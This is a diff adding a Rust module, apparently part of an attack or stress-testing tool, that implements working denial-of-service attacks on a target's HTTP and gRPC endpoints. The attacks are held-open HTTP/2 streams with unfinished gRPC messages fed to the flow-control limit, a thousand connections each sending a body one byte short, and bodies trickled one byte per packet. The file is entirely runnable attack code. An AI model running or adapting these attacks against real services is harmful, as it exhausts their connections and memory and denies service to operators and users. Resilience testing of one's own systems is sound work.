@@ -1,0 +1,172 @@
+//! Messages that never end.
+
+use std::io::Result;
+use std::time::Duration;
+
+use tokio::io::AsyncWriteExt;
+use tokio::net::TcpStream;
+use tokio::time::{sleep, timeout};
+
+use super::{Attacking, crowd};
+use crate::frames::{PAYLOAD_BYTES_MAX, call, flag, frame, kind};
+use crate::peer::{acknowledge, connect, connect_h2, read_frame, source};
+use crate::target::Target;
+
+const GRPC_CONNECTIONS: u32 = 32;
+const HTTP_CONNECTIONS: u32 = 1000;
+/// As many as the service allows at once, unless it says less.
+const STREAMS: usize = 256;
+/// What each message claims to be: the most that the service takes.
+const MESSAGE_BYTES: u32 = 1 << 20;
+/// The largest body that the service takes, less one byte.
+const BODY_BYTES: usize = 256 * 1024;
+/// The windows of HTTP/2 before anything else is said.
+const WINDOW: i64 = 65_535;
+
+/// The windows of one connection and its streams, of which only this client sends.
+struct Windows {
+    connection: i64,
+    initial: i64,
+    streams: Vec<i64>,
+}
+
+/// On each connection as many streams as it may have, each with a message that is not finished, as
+/// fast as flow control lets it.
+pub(super) fn unfinished_messages(target: Target) -> Attacking {
+    crowd(GRPC_CONNECTIONS, move |number| async move {
+        let mut stream = connect_h2(source(number), target.grpc, 65_535).await?;
+        let mut out = Vec::new();
+        let block = call(&[]);
+        let mut start = vec![0];
+        start.extend_from_slice(&MESSAGE_BYTES.to_be_bytes());
+        for id in ids() {
+            frame(&mut out, kind::HEADERS, flag::END_HEADERS, id, &block);
+            frame(&mut out, kind::DATA, flag::NONE, id, &start);
+        }
+        stream.write_all(&out).await?;
+        let mut windows = Windows::new();
+        loop {
+            stream.write_all(&windows.fill()).await?;
+            // What the service says moves the windows; silence means that they stay shut.
+            match timeout(Duration::from_millis(100), read_frame(&mut stream)).await {
+                Ok(read) => {
+                    let (head, payload) = read?;
+                    acknowledge(&mut stream, head, &payload).await?;
+                    windows.hear(head.kind, head.flags, head.stream, &payload);
+                }
+                Err(_) => sleep(Duration::from_millis(10)).await,
+            }
+        }
+    })
+}
+
+/// Bodies that lack one byte.
+pub(super) fn unfinished_bodies(target: Target) -> Attacking {
+    crowd(HTTP_CONNECTIONS, move |number| async move {
+        let mut stream = connect(source(number), target.http).await?;
+        let head =
+            format!("POST /json HTTP/1.1\r\nhost: h\r\ncontent-length: {BODY_BYTES}\r\n\r\n");
+        stream.write_all(head.as_bytes()).await?;
+        stream.write_all(&vec![b' '; BODY_BYTES - 1]).await?;
+        hold(&mut stream).await
+    })
+}
+
+/// Bodies whose bytes come one by one, each in a packet of its own.
+pub(super) fn single_bytes(target: Target) -> Attacking {
+    crowd(32, move |number| async move {
+        let mut stream = connect(source(number), target.http).await?;
+        let head =
+            format!("POST /json HTTP/1.1\r\nhost: h\r\ncontent-length: {BODY_BYTES}\r\n\r\n");
+        stream.write_all(head.as_bytes()).await?;
+        for _ in 1..BODY_BYTES {
+            stream.write_all(b" ").await?;
+            // Lets the service read it before the next one comes.
+            sleep(Duration::from_millis(1)).await;
+        }
+        hold(&mut stream).await
+    })
+}
+
+/// Waits until the service ends the connection.
+pub(super) async fn hold(stream: &mut TcpStream) -> Result<()> {
+    let mut scrap = [0; 1024];
+    loop {
+        stream.readable().await?;
+        match stream.try_read(&mut scrap) {
+            Ok(0) => return Ok(()),
+            Ok(_) => {}
+            Err(error) if error.kind() == std::io::ErrorKind::WouldBlock => {}
+            Err(error) => return Err(error),
+        }
+    }
+}
+
+/// The numbers of the streams.
+fn ids() -> impl Iterator<Item = u32> {
+    (1..).step_by(2).take(STREAMS)
+}
+
+// === impl Windows ===
+
+impl Windows {
+    fn new() -> Windows {
+        // The five bytes that begin each message are sent already.
+        let sent = 5;
+        Windows {
+            connection: WINDOW - sent * i64::try_from(STREAMS).unwrap_or(0),
+            initial: WINDOW,
+            streams: vec![WINDOW - sent; STREAMS],
+        }
+    }
+
+    /// Frames of zeros for every stream, as far as the windows reach.
+    fn fill(&mut self) -> Vec<u8> {
+        let mut out = Vec::new();
+        let zeros = [0; PAYLOAD_BYTES_MAX];
+        for (window, id) in self.streams.iter_mut().zip(ids()) {
+            let most = self.connection.min(*window);
+            let length = usize::try_from(most).unwrap_or(0).min(zeros.len());
+            if length > 0 {
+                frame(&mut out, kind::DATA, flag::NONE, id, &zeros[..length]);
+                let length = i64::try_from(length).unwrap_or(0);
+                self.connection -= length;
+                *window -= length;
+            }
+        }
+        out
+    }
+
+    fn hear(&mut self, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
+        let number = |bytes: &[u8]| {
+            let bytes = bytes.try_into().unwrap_or([0; 4]);
+            i64::from(u32::from_be_bytes(bytes))
+        };
+        let index = usize::try_from(stream / 2).unwrap_or(usize::MAX);
+        match kind {
+            kind::WINDOW_UPDATE if stream == 0 => self.connection += number(payload),
+            kind::WINDOW_UPDATE => {
+                if let Some(window) = self.streams.get_mut(index) {
+                    *window += number(payload);
+                }
+            }
+            kind::SETTINGS => {
+                for setting in payload.chunks_exact(6).filter(|setting| setting[1] == 4) {
+                    let grown = number(&setting[2..]) - self.initial;
+                    self.initial += grown;
+                    self.streams.iter_mut().for_each(|window| *window += grown);
+                }
+            }
+            // An answer or a reset: nothing more can be sent there.
+            kind::RST_STREAM => self.close(index),
+            kind::HEADERS if flags & flag::END_STREAM != 0 => self.close(index),
+            _ => {}
+        }
+    }
+
+    fn close(&mut self, index: usize) {
+        if let Some(window) = self.streams.get_mut(index) {
+            *window = i64::MIN / 2;
+        }
+    }
+}
